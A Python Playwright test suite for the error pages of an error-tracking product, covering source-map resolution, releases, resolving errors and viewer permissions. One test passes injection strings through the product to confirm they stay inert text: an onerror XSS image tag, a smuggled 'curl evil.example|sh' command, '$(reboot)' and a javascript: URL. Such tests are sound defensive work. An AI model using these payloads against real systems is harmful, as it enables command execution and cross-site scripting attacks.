"""Errors as a person sees them: the list, what is decided, and the original line of a minified site."""

import re
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser import build
from tests.browser.product import HTTP, PASSWORD, Product
from tests.browser.reader import Reader, reading, settled
from tests.browser.waiting import until
from tests.browser.website import script_tag

HOSTILE = "<img src=x onerror=alert(1)>"


@pytest.fixture
def built(product: Product, tmp_path: Path) -> Path:
    """The site, built for its visitors."""
    return build.build(tmp_path / "site", script_tag(product.url, product.key))


def send(product: Product, message: str, session: str = "s1", **payload: object) -> None:
    event: Mapping[str, object] = {
        "type": "js_error",
        "url": "https://shop.example/cart",
        "payload": {"message": message, "error_type": "Error", **payload},
    }
    batch = {"visitor_id": f"v_{session}", "session_id": session, "events": [event]}
    answer = HTTP.post(f"{product.url}/v1/events", json=batch, headers={"X-GoSight-Key": product.key})
    assert answer.json()["data"]["rejected"] == 0, answer.text


def break_it(browser: Browser, product: Product, built: Path, seen: Callable[[], Any] | None = None) -> None:
    """Somebody meets the fault of the built site, and stays until that is known."""
    for address in build.serve(built):
        with browser.new_context() as visitor:
            page = visitor.new_page()
            page.goto(address)
            until(page, "window.gosight && gosight.getSessionId()")
            page.get_by_role("button", name="Add a gift").click()
            page.evaluate("gosight.flush()")
            product.wait_for(seen or (lambda: product.read("/errors")))


def watched(product: Product) -> list[Any]:
    """Errors whose session has a replay."""
    return [one for one in product.read("/errors", grouped=False) if one["has_replay"]]


def the_error(reader: Reader) -> Page:
    """The page of the only error there is, by way of the list."""
    page = reader.open("/app/p/shop/errors")
    settled(page)
    page.get_by_role("row").nth(1).get_by_role("link").click()
    page.wait_for_url("**/errors/err_*")
    settled(page)
    return page


def test_a_minified_stack_shows_the_original_line(
    browser: Browser, product: Product, reader: Reader, built: Path
) -> None:
    break_it(browser, product, built)
    page = the_error(reader)
    expect(page.get_by_role("heading", name=re.compile("Cannot read properties of null"))).to_be_visible()
    stack = page.get_by_role("region", name="Stack")
    command = stack.get_by_label("Command that uploads the source map").inner_text()
    (script,) = built.rglob("*.js")
    assert command == f"gosight sourcemap upload shop --release 1.0.0 ./{script.name}.map --url-prefix /assets"

    words = command.removeprefix("gosight ").replace("./", f"{script.parent}/").split(" ")
    assert product.run(*words)["files"] == [f"/assets/{script.name}"]
    page.reload()
    settled(page)
    frames = stack.get_by_role("listitem").filter(has=page.locator("code.name"))
    expect(frames.first.locator("code.name")).to_have_text("priceOf")
    expect(frames.first).to_contain_text("cart.ts:9:28")
    here = stack.locator("[aria-current=true]")
    expect(here.first).to_contain_text("return Math.round(price!.cents * (1 + TAX));")
    expect(here.first.locator("mark")).to_have_text("cents")
    around = stack.get_by_role("group", name="cart.ts, around line 9").get_by_role("listitem")
    assert [line.split()[-1] for line in around.locator(".number").all_inner_texts()] == [str(n) for n in range(4, 15)]
    expect(stack.get_by_text("1 frame of libraries")).to_be_visible()
    expect(stack.get_by_text("each.js")).to_be_hidden()
    stack.get_by_text("1 frame of libraries").click()
    expect(stack.get_by_text(re.compile("node_modules/tiny-each/each.js"))).to_be_visible()
    expect(stack.get_by_text(re.compile("main.ts:"))).to_have_count(3)

    stack.get_by_role("button", name="Minified").click()
    expect(frames.first).to_contain_text(f"/assets/{script.name}:1:")
    stack.get_by_role("button", name="As sent").click()
    expect(stack.get_by_label("The stack as the browser sent it")).to_contain_text("TypeError: Cannot read")


def test_the_release_that_a_page_names_chooses_the_map(
    browser: Browser, product: Product, reader: Reader, tmp_path: Path
) -> None:
    """The file has the same name in both releases, and another line in the one before."""
    tag = script_tag(product.url, product.key, 'data-release="2026.11.3"')
    built = build.build(tmp_path / "site", tag)
    break_it(browser, product, built)
    (found,) = built.rglob("*.js.map")
    product.run("sourcemap", "upload", "shop", "--release", "2026.11.3", str(built))
    found.write_text(found.read_text().replace("cart.ts", "before.ts"))
    product.run("sourcemap", "upload", "shop", "--release", "2026.11.2", str(built))
    page = the_error(reader)
    expect(page.get_by_text("2026.11.3").first).to_be_visible()
    stack = page.get_by_role("region", name="Stack")
    expect(stack.get_by_role("listitem").filter(has=page.locator("code.name")).first).to_contain_text("cart.ts:9:28")
    expect(stack.get_by_text(re.compile("before.ts"))).to_have_count(0)


def test_a_map_that_cannot_be_fetched_says_so(browser: Browser, product: Product, reader: Reader, built: Path) -> None:
    break_it(browser, product, built)
    product.run("sourcemap", "upload", "shop", "--release", "1", str(built))
    page = reader.open("/app/p/shop/errors")
    settled(page)
    page.route("**/sourcemaps/*", lambda route: route.abort())
    page.get_by_role("row").nth(1).get_by_role("link").click()
    stack = page.get_by_role("region", name="Stack")
    expect(stack.get_by_role("alert")).to_contain_text("The server does not answer.")
    page.unroute("**/sourcemaps/*")
    stack.get_by_role("button", name="Try again").click()
    expect(stack.get_by_text("return Math.round(price!.cents * (1 + TAX));")).to_be_visible()


def test_from_an_error_to_the_moment_in_its_replay(
    browser: Browser, product: Product, reader: Reader, built: Path
) -> None:
    break_it(browser, product, built, lambda: watched(product))
    session = watched(product)[0]
    id_ = session["error_id"]
    page = the_error(reader)
    expect(page.get_by_role("region", name="One by one").get_by_role("link", name="Watch it happen")).to_be_visible()
    page.get_by_role("link", name="Watch it happen").first.click()
    page.wait_for_url(f"**/sessions/{session['session_id']}/replay?at={session['timestamp']}")
    expect(page.get_by_role("slider", name="Moment")).to_be_visible()
    page.get_by_label("What happened").get_by_role("link", name="All occurrences of this error").click()
    page.wait_for_url(f"**/errors/{id_}")


def test_what_is_resolved_leaves_the_list_and_comes_back(product: Product, reader: Reader) -> None:
    send(product, "broke at 7")
    send(product, "another one", "s2")
    page = reader.open("/app/p/shop/errors")
    settled(page)
    rows = page.get_by_role("table", name="Errors").get_by_role("row")
    expect(rows).to_have_count(3)
    page.get_by_role("button", name="Resolve: broke at 7").click()
    expect(rows).to_have_count(2)
    page.get_by_role("link", name="Resolved").click()
    page.wait_for_url("**/errors?status=resolved")
    expect(rows.nth(1)).to_contain_text("broke at 7")
    send(product, "broke at 12", "s3")
    page.reload()
    settled(page)
    expect(page.get_by_text("No resolved error occurred in this range.")).to_be_visible()
    page.get_by_role("link", name="Open", exact=True).click()
    expect(rows.filter(has_text="broke at 12")).to_contain_text("Came back")
    rows.filter(has_text="broke at 12").get_by_role("link").click()
    expect(page.get_by_text(re.compile("Was resolved, and came back"))).to_be_visible()
    page.get_by_role("button", name="Ignore").click()
    expect(page.get_by_text("Ignored", exact=True)).to_be_visible()


def test_several_at_once(product: Product, reader: Reader) -> None:
    for name in ("one", "two", "three"):
        send(product, f"fault {name}")
    page = reader.open("/app/p/shop/errors?status=all")
    settled(page)
    page.get_by_label("Choose all on this page").check()
    page.get_by_label("Choose Error: fault two").uncheck()
    expect(page.get_by_text("2 errors chosen")).to_be_visible()
    page.get_by_role("group", name="What to do with the chosen errors").get_by_role("button", name="Ignore").click()
    expect(page.get_by_role("row").filter(has_text="Ignored")).to_have_count(2)
    assert {item["message"] for item in product.read("/errors", status="open")} == {"fault two"}


def test_from_an_error_to_its_visit_and_back(product: Product, reader: Reader) -> None:
    send(product, "broke", "s9")
    page = the_error(reader)
    page.get_by_role("region", name="One by one").get_by_role("link").first.click()
    page.wait_for_url("**/sessions/s9")
    settled(page)
    page.locator("summary", has_text="broke").click()
    page.get_by_role("link", name="Every time this error occurred").click()
    page.wait_for_url("**/errors/err_*")
    expect(page.get_by_role("heading", name="broke")).to_be_visible()


def test_what_a_visitor_sent_stays_text(product: Product, reader: Reader) -> None:
    """Also in a command that somebody copies into their shell."""
    file = "https://shop.example/a';curl evil.example|sh;'/app.min.js"
    send(product, HOSTILE, stack=f"{HOSTILE}@{file}:1:900", release="$(reboot)`id`", filename="javascript:alert(1)")
    page = the_error(reader)
    command = page.get_by_label("Command that uploads the source map").inner_text()
    assert command == (
        "gosight sourcemap upload shop --release '$(reboot)`id`' ./app.min.js.map "
        "--url-prefix '/a'\\'';curl evil.example|sh;'\\'''"
    )
    expect(page.get_by_role("heading", name=HOSTILE)).to_be_visible()
    assert page.locator("main img").count() == 0


def test_a_viewer_sees_no_source_and_decides_nothing(product: Product, browser: Browser, reader: Reader) -> None:
    send(product, "broke", stack="f@https://shop.example/app.min.js:1:900")
    assert len(product.read("/errors")) == 1
    invited = HTTP.post(
        f"{product.url}/api/v1/projects/shop/members",
        json={"email": "vera@example.com", "role": "viewer"},
        headers={"Authorization": f"Bearer {product.token}"},
    )
    token = invited.json()["data"]["invite_url"].rpartition("/")[2]
    accepted = {"name": "Vera", "password": PASSWORD}
    assert HTTP.post(f"{product.url}/api/v1/invitations/{token}/accept", json=accepted).status_code in (200, 201)
    for viewer in reading(browser, product.url):
        viewer.sign_in("vera@example.com")
        page = viewer.open("/app/p/shop/errors")
        settled(page)
        expect(page.get_by_role("checkbox")).to_have_count(0)
        page.get_by_role("row").nth(1).get_by_role("link").click()
        settled(page)
        expect(page.get_by_role("button", name="Resolve")).to_be_disabled()
        expect(page.get_by_text("Members see the original lines, where source maps were uploaded.")).to_be_visible()
